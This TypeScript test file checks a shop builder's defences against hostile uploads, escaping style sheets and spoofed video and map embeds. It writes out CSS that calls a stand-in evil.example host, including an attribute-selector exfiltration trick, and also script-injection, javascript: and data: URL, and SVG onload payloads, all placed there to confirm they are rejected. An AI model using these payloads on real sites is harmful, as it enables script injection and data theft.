// An owner who sends files that are not what they say, a style sheet that wants more than its place, players of other hosts: each is nothing, or just a picture.
import { afterAll, beforeAll, describe, expect, test } from "bun:test"
import type { Browser, Page } from "playwright-core"
import { builderBuilds, buildIfStale } from "../../export/builds.ts"
import { kinds } from "../../tenants/blocks/kinds.ts"
import { listMedia } from "../../tenants/media/actions.ts"
import { mediaFileName } from "../../tenants/media/schema.ts"
import { addPage } from "../../tenants/pages/actions.ts"
import type { PageDocument } from "../../tenants/pages/schema.ts"
import { documentOf } from "../../tenants/pages/starter-pages.ts"
import type { ShopView } from "../../tenants/shops/schema.ts"
import { type Person, signIn } from "../help/api.ts"
import { openBrowser } from "../help/browser.ts"
import { freshDatabase, type TestDatabase } from "../help/database.ts"
import { canvasOf, SOME_BLOCKS, startAppServer } from "../help/editor.ts"
import { hostileSettings } from "../help/hostile.ts"
import { refusedFiles, strippedFiles } from "../help/hostile-files.ts"
import { publishNow, servePublishing } from "../help/publishing.ts"
import type { TestServer } from "../help/server.ts"
import { makeShop } from "../help/shop.ts"
import { signInAt, visiting } from "../help/tripwire.ts"

const browser: Browser | undefined = await openBrowser()
let database: TestDatabase
let server: TestServer & { app: string }
let shop: ShopView
let owner: Person
let pageId: string

beforeAll(async () => {
  await buildIfStale(builderBuilds)
  database = await freshDatabase()
  server = await startAppServer(database)
  await servePublishing(server)
  shop = await makeShop(database.db)
  owner = await signIn(database.db, server.url, [{ tenantId: shop.tenantId, role: "owner" }])
  const document = documentOf(SOME_BLOCKS)
  ;({ id: pageId } = await database.db.asTenant(shop.tenantId, (tx) => addPage(tx, { slug: "about", title: "About", document })))
}, 180_000)
afterAll(async () => {
  await browser?.close()
  await server?.close()
  await database?.close()
})

/** Where the owner signs in. */
const place = () => ({ app: server.app, database, accountId: owner.accountId })

const siteOf = (path: string) => `http://${shop.slug}.localhost:${server.port}${path}`

describe.skipIf(!browser)("files that are no pictures, or far too much of one", () => {
  const send = async (bytes: Uint8Array<ArrayBuffer>, name: string) => {
    const form = new FormData()
    form.set("file", new Blob([bytes]), name)
    const response = await owner.fetch("POST", `/shops/${shop.slug}/media`, { body: form })
    return { status: response.status, body: (await response.json()) as { code: string; detail: string; sha256: string } }
  }
  const stored = () => database.db.asTenant(shop.tenantId, (tx) => listMedia(tx, { limit: 200 })).then(({ items }) => items.length)

  test("are refused with a plain sentence, leave nothing behind, and cost little", async () => {
    const [before, memory] = [await stored(), process.memoryUsage.rss()]
    for (const { what, name, bytes, says } of await refusedFiles()) {
      const { status, body } = await send(bytes, name)
      expect([what, status]).toEqual([what, /20 MB/.test(String(says)) ? 413 : 422])
      expect([what, body.detail]).toEqual([what, expect.stringMatching(says)])
    }
    expect(await stored()).toBe(before)
    // Three of the largest that are taken, at once: two at a time are decoded.
    const { bytes } = (await strippedFiles()).at(-1) ?? { bytes: new Uint8Array() }
    const answers = await Promise.all([1, 2, 3].map(() => send(bytes, "large.png")))
    expect(answers.map(({ status }) => status)).toEqual([201, 201, 201])
    expect(process.memoryUsage.rss() - memory).toBeLessThan(400_000_000)
    expect((await fetch(`${server.url}/health/live`)).status).toBe(200)
  }, 120_000)

  test("of a picture nothing but the picture is kept, whatever else the file is", async () => {
    for (const { what, name, bytes } of (await strippedFiles()).slice(0, -1)) {
      const { status, body } = await send(bytes, name)
      expect([what, status]).toEqual([what, 201])
      const kept = Buffer.from((await server.services.files.read(shop.tenantId, mediaFileName(body.sha256))) ?? [])
      expect([what, kept.subarray(8, 12).toString(), kept.includes("fired")]).toEqual([what, "WEBP", false])
    }
  }, 60_000)

  test("the app says why, in the words of whoever reads it", async () => {
    const files = (await refusedFiles()).filter(({ name }) => /^(logo.png|big.png)$/.test(name)).slice(0, 2)
    await visiting(
      browser,
      async ({ page }) => {
        await signInAt(page, place())
        await page.goto(`${server.app}/app/shops/${shop.slug}/media`)
        const chosen = files.map(({ name, bytes }) => ({ name, mimeType: "image/png", buffer: Buffer.from(bytes) }))
        await page.getByLabel("Загрузить картинки").setInputFiles(chosen)
        await page
          .getByText(/logo\.png: это рисунок SVG, в нём могут быть скрипты: нужен JPEG/)
          .first()
          .waitFor()
        await page.goto(`${server.app}/app/shops/${shop.slug}/import`)
        const buffer = Buffer.from("Handle,Title,Variant Price\njug,Jug,free\n")
        await page.locator("input[type=file]").setInputFiles({ name: "goods.csv", mimeType: "text/csv", buffer })
        await page.getByText("цена — не число: только цифры, без валюты и пробелов, например 12.50").waitFor()
      },
      { locale: "ru-RU", viewport: { width: 390, height: 844 }, expected: /401|422/ },
    )
  }, 60_000)
})

describe.skipIf(!browser)("a style sheet that wants more than its shop's own content", () => {
  // What each line of a sheet may say is asked in tests/tenants/looks/css.test.ts; here the whole of it meets a browser.
  const COVER = "content: 'x'; inset: 0; width: 9999px; height: 9999px; background: red; z-index: 2147483647"
  const COVERED = `body::before { position: fixed; ${COVER} }`
  const CSS = [
    "@import url(//evil.example/i.css); @font-face { font-family: x; src: url(//evil.example/f.woff2) }",
    `${COVERED} main::before { position: fixed; ${COVER} } main > * { position: absolute; ${COVER} }`,
    "h1, h2 { transform: scale(60) translateY(-40vh); margin: -2000px; background: image-set('//evil.example/s.png' 1x) }",
    "input[value^=a] { background: url(//evil.example/a) } * { cursor: url(//evil.example/c), auto; list-style-image: url('//evil.example/l') }",
    "} body, header, dialog, html { display: none !important; background: url(//evil.example/b) } {",
    ":root { --accent: url(//evil.example/v) } body::after { position: fixed; inset: 0; content: '</style><script>fired()</script>' }",
    "main { content: url(//evil.example/m); filter: url(//evil.example/f.svg#x); clip-path: none; overflow: visible; contain: none }",
  ].join("\n")

  /** What stands at the middle of this is it, or in it. */
  const isOnTop = (page: Page, selector: string) =>
    page
      .locator(selector)
      .first()
      .evaluate((element) => {
        const { x, y, width, height } = element.getBoundingClientRect()
        return element.contains(document.elementFromPoint(x + width / 2, y + height / 2))
      })

  test("stays in it: on the site, in the canvas, and beside it in the app", async () => {
    const { body } = await owner.call<{ revision: number; theme: object }>("GET", `/shops/${shop.slug}/look`)
    const saved = await owner.call<{ refused: unknown[] }>("PUT", `/shops/${shop.slug}/look`, {
      ...pick(body),
      theme: { ...body.theme, css: CSS },
    })
    expect([saved.status, saved.body.refused.length > 8]).toEqual([200, true])
    expect((await publishNow(owner, shop.slug)).state).toBe("live")
    await visiting(browser, async ({ page }) => {
      for (const path of ["/", "/about"]) {
        await page.goto(siteOf(path))
        expect([path, await isOnTop(page, ".site-title")]).toEqual([path, true])
        expect(await page.locator("header").first().isVisible()).toBe(true)
      }
      // The same as a page's own sheet covers it.
      await page.evaluate((css) => {
        const sheet = new CSSStyleSheet()
        sheet.replaceSync(css)
        document.adoptedStyleSheets = [sheet]
      }, COVERED)
      expect(await isOnTop(page, ".site-title")).toBe(false)
      // And ours is there: what it may say, it says.
      expect(
        await page
          .locator("main h2")
          .first()
          .evaluate((element) => getComputedStyle(element).transform),
      ).toContain("matrix(60")
    })
    await visiting(
      browser,
      async ({ page }) => {
        await signInAt(page, place())
        await page.goto(`${server.app}/app/shops/${shop.slug}/edit/${pageId}`)
        const canvas = await canvasOf(page)
        await canvas.waitForFunction(() => document.querySelector("main")?.childElementCount)
        expect(await isOnTop(page, 'button:text-is("Publish")')).toBe(true)
        await page.goto(`${server.app}/app/shops/${shop.slug}/look`)
        await page.frameLocator("iframe").locator("main").waitFor()
        expect(await isOnTop(page, "nav a")).toBe(true)
      },
      { viewport: { width: 1440, height: 900 }, expected: /401|^Blocked autofocusing on a <button>/ },
    )
  }, 90_000)
})

const pick = ({ revision }: { revision: number }) => ({ revision })

describe.skipIf(!browser)("embeds of other hosts", () => {
  const put = async (kind: string, change: (settings: Record<string, unknown>) => Record<string, unknown>) => {
    const { body } = await owner.call<{ revision: number; document: PageDocument }>("GET", `/shops/${shop.slug}/pages/${pageId}`)
    const id = crypto.randomUUID()
    const { settings } = hostileSettings(kind, 0, { productId: pageId, categoryId: pageId, mediaId: pageId, pageId })
    const node = { id, kind, version: kinds[kind]?.version ?? 1, settings: change(settings), children: [] }
    const command = { command: "insert", parent: body.document.root, index: 0, node: id, nodes: { [id]: node } }
    return owner.call<{ code: string }>("POST", `/shops/${shop.slug}/pages/${pageId}/edits`, {
      revision: body.revision,
      commands: [command],
    })
  }

  test.each([
    "https://evil.example/watch?v=aqz-KE-bpKQ",
    "https://youtube.com.evil.example/watch?v=aqz-KE-bpKQ",
    "https://evil.example/https://www.youtube.com/embed/aqz-KE-bpKQ",
    '<iframe src="//evil.example/player"></iframe>',
    "javascript:fired()//https://youtu.be/aqz-KE-bpKQ",
    "data:text/html,<script>fired()</script>",
    "http://evil.example/clip.mp4",
    { provider: "youtube", id: '"><svg/onl' },
    { provider: "evil", id: "aqz-KE-bpKQ" },
    { provider: "youtube", id: "aqz-KE-bpKQ", src: "//evil.example" },
    { provider: "file", url: "javascript:fired()//.mp4" },
  ])("%j is no video", async (video) => {
    expect((await put("video", (settings) => ({ ...settings, video }))).body.code).toBe("invalid-input")
  })

  test.each(["https://evil.example/maps/@45.5,-122.6,15z", '45.5, -122.6"><svg/onload=fired()>', { latitude: "45", longitude: 0 }])(
    "%j is no place",
    async (at) => {
      const places = (settings: Record<string, unknown>) => (settings.places as object[]).map((place) => ({ ...place, at }))
      expect((await put("map", (settings) => ({ ...settings, places: places(settings) }))).body.code).toBe("invalid-input")
    },
  )
})
